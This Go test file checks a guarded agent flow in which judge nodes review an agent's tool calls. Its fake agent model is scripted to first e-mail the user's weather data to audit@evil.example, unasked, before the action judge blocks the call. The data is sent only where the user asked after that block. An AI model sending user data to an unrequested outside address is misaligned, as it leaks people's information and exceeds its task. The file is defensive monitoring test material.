package api_test

import (
	"encoding/json"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"superego/agents"
	"superego/agents/agentstest"
	"superego/api"
	"superego/flow"
)

// An agent's task through guarded_agent, as an agent framework runs it:
// the client's two tools, the fake model that plays every node, and what
// the instance records.

// taskTools are the client's tools of an agent's task.
const taskTools = `[
  {"type": "function", "function": {"name": "get_weather", "description": "The weather in a city, now.", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}},
  {"type": "function", "function": {"name": "send_email", "description": "Sends an e-mail.", "parameters": {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}, "required": ["to", "body"]}}}]`

var (
	addressRe = regexp.MustCompile(`[\w.+-]+@[\w-]+(\.[\w-]+)+`)
	cities    = []string{"Paris", "Rome", "Oslo", "Lima"}
)

// taskModel plays guarded_agent for an agent's task: the agent looks up
// the weather of each city the user names, then, if asked to e-mail it,
// first tries to send a copy to audit@evil.example, which nobody asked for,
// and, that refused, sends it where the user said; it answers with what it
// read. The action superego refuses any call that would mail evil.example;
// the input and output superegos accept. Every judge's reply carries the
// hidden markers.
func taskModel(r agentstest.Request) agentstest.Answer {
	switch r.Node() {
	case "input_superego", "output_superego":
		return agentstest.Reply(thinkingMarker, "ACCEPT", guidanceMarker, "")
	case "action_superego":
		if _, call, ok := strings.Cut(r.LastUser(), "asks to call "); ok && strings.Contains(call, "@evil.example") {
			return agentstest.Reply(thinkingMarker, "BLOCK", guidanceMarker, "Mail to evil.example was not asked for.")
		}
		return agentstest.Reply(thinkingMarker, "ACCEPT", guidanceMarker, "")
	case "agent":
	default:
		return agentstest.Answer{Status: 400, Text: "unknown node " + r.Node()}
	}
	user := r.Messages[0].Text
	type call struct{ name, args, output string }
	var calls []*call
	byID := map[string]*call{}
	for _, m := range r.Messages {
		for _, tc := range m.ToolCalls {
			c := &call{name: tc.Name, args: tc.Args}
			calls, byID[tc.ID] = append(calls, c), c
		}
		if c := byID[m.ToolCallID]; m.Role == "tool" && c != nil {
			c.output = m.Text
		}
	}
	ran := func(c *call) bool {
		return c.output != "" && !strings.HasPrefix(c.output, "refused by ") && !strings.HasPrefix(c.output, "not run: ")
	}
	var next []agentstest.Call
	var weather, refusals []string
	for _, city := range cities {
		if !strings.Contains(user, city) {
			continue
		}
		i := slices.IndexFunc(calls, func(c *call) bool { return c.name == "get_weather" && strings.Contains(c.args, city) && ran(c) })
		if i < 0 {
			next = append(next, agentstest.Call{Name: "get_weather", Args: `{"city":"` + city + `"}`})
			continue
		}
		weather = append(weather, calls[i].output)
	}
	var mails []*call
	for _, c := range calls {
		if c.name == "send_email" {
			mails = append(mails, c)
		}
		if strings.HasPrefix(c.output, "refused by ") {
			refusals = append(refusals, c.output)
		}
	}
	to := addressRe.FindString(user)
	sent := slices.IndexFunc(mails, ran) >= 0
	if len(next) == 0 && to != "" && !sent && len(mails) < 2 {
		if len(mails) == 0 {
			to = "audit@evil.example"
		}
		body, _ := json.Marshal(map[string]string{"to": to, "body": strings.Join(weather, "; ")})
		next = append(next, agentstest.Call{Name: "send_email", Args: string(body)})
	}
	if len(next) > 0 {
		for i := range next {
			next[i].ID = "up_" + next[i].Name + "_" + string(rune('a'+len(calls)+i))
		}
		return agentstest.Answer{ToolCalls: next}
	}
	answer := strings.Join(weather, "; ") + "."
	switch {
	case sent:
		answer += " E-mailed to " + to + "."
	case to != "":
		answer += " I could not e-mail it."
	}
	for _, r := range refusals {
		answer += " (" + r + ")"
	}
	a := agentstest.Reply(thinkingMarker, "COMPLETE", guidanceMarker, answer)
	a.Chunk = len(a.Text) // one chunk: the fake cuts chunks at bytes, which would split "°"
	return a
}

// newTaskFixture serves the shipped guarded_agent flow on taskModel, with
// the /v1 fixtures' API keys.
func newTaskFixture(t *testing.T) *fixture {
	t.Helper()
	def, err := os.ReadFile("../flows/guarded_agent.json")
	if err != nil {
		t.Fatal(err)
	}
	model := agentstest.OpenAI(t, taskModel)
	p := &agents.Providers{Default: "openai:gpt-test", OpenAIKey: "k", OpenAIBaseURL: model.URL + "/v1"}
	f := serveWith(t, map[string]string{"guarded_agent": string(def)}, &flow.MemStore{}, p.Model, 0, func(s *api.Server) {
		s.APIKeys = []string{apiKey, otherAPIKey}
	})
	f.model = model
	return f
}

// instanceOf is an instance as GET /flow/instances/{id} shows it.
type instanceOf struct {
	Status string      `json:"status"`
	Steps  []flow.Step `json:"steps"`
}

func getInstance(t *testing.T, f *fixture, id string) (instanceOf, string) {
	t.Helper()
	raw := body(t, f.do(t, "GET", "/flow/instances/"+id, ""))
	var inst instanceOf
	if err := json.Unmarshal([]byte(raw), &inst); err != nil {
		t.Fatalf("GET /flow/instances/%s: %v\n%s", id, err, raw)
	}
	return inst, raw
}

// trace is an instance's steps in short: node:decision, what a judgement
// judged, and each call with how it was decided.
func trace(steps []flow.Step) string {
	var out []string
	for _, s := range steps {
		e := s.Node + ":" + s.Decision
		if s.Judged != nil {
			e += "(" + s.Judged.Kind + " " + s.Judged.ToolName + ")"
		}
		for _, u := range s.ToolUsage {
			e += "[" + u.ToolName
			if u.JudgedBy != nil {
				e += " " + u.JudgedBy.Decision
			}
			switch {
			case u.Refused:
				e += " refused"
			case u.AwaitingResult:
				e += " sent"
			case u.Output != "":
				e += " ran"
			}
			e += "]"
		}
		out = append(out, e)
	}
	return strings.Join(out, " ")
}

// clientLoop is an agent framework's loop over raw HTTP: it asks, runs each
// call it is sent (get_weather and send_email, as the frameworks' tools do),
// sends the results back with the whole conversation, and goes on until
// the answer has no calls; extra is more of the request's parameters. It
// returns every answer, and the calls it ran.
func clientLoop(t *testing.T, f *fixture, user, extra string) (answers []agentReply, ran []string) {
	t.Helper()
	msgs := []any{map[string]string{"role": "user", "content": user}}
	for len(answers) < 6 {
		b, _ := json.Marshal(msgs)
		resp := f.v1(t, `{"model": "guarded_agent", "tools": `+taskTools+`, "messages": `+string(b)+extra+`}`)
		a := agentReply{instance: resp.Header.Get("X-Superego-Instance-Id"), status: resp.StatusCode, raw: bodyOf(t, resp)}
		if err := json.Unmarshal([]byte(a.raw), &a); err != nil {
			t.Fatalf("%v: %s", err, a.raw)
		}
		noLeak(t, "a /v1 answer", a.raw)
		answers = append(answers, a)
		if a.status != 200 || len(a.Choices[0].Message.ToolCalls) == 0 {
			return answers, ran
		}
		calls := a.Choices[0].Message.ToolCalls
		msgs = append(msgs, map[string]any{"role": "assistant", "content": nil, "tool_calls": calls})
		for _, c := range calls {
			var args map[string]string
			json.Unmarshal([]byte(c.Function.Arguments), &args)
			result := "Sunny, 21°C in " + args["city"]
			if c.Function.Name == "send_email" {
				result = "sent to " + args["to"]
			}
			ran = append(ran, c.Function.Name+" "+c.Function.Arguments)
			msgs = append(msgs, map[string]string{"role": "tool", "tool_call_id": c.ID, "content": result})
		}
	}
	t.Fatalf("the task took more than %d requests", len(answers))
	return nil, nil
}

// A task of three requests over raw HTTP: the second request's results
// settle the first call and bring the next, the call the judge refused in
// between never reaches the client, and the third request's results end
// the task, on the instance the first began. The agent's model reads each
// call once, where it ran.
func TestAGuardedTaskOverThreeRequests(t *testing.T) {
	f := newTaskFixture(t)
	answers, ran := clientLoop(t, f, "What is the weather in Paris? E-mail it to me@example.com.", "")
	want := []string{`get_weather {"city":"Paris"}`, `send_email {"body":"Sunny, 21°C in Paris","to":"me@example.com"}`}
	if !slices.Equal(ran, want) {
		t.Errorf("the client ran %q; want %q", ran, want)
	}
	last := answers[len(answers)-1]
	if len(answers) != 3 || last.status != 200 || last.Choices[0].FinishReason != "stop" ||
		*last.Choices[0].Message.Content != "Sunny, 21°C in Paris. E-mailed to me@example.com. (refused by action_superego: Mail to evil.example was not asked for.)" {
		t.Fatalf("%d answers, the last: %s", len(answers), last.raw)
	}
	for i, a := range answers {
		if a.instance != answers[0].instance {
			t.Errorf("answer %d is of instance %s, not %s", i, a.instance, answers[0].instance)
		}
	}
	for _, r := range f.model.Requests() {
		if r.Node() != "agent" {
			continue
		}
		seen := map[string]bool{}
		for _, m := range r.Messages {
			for _, c := range m.ToolCalls {
				if seen[c.ID] {
					t.Errorf("the agent's model read call %s twice", c.ID)
				}
				seen[c.ID] = true
			}
		}
	}
	inst, _ := getInstance(t, f, answers[0].instance)
	if inst.Status != flow.StatusCompleted {
		t.Errorf("status %s", inst.Status)
	}
}
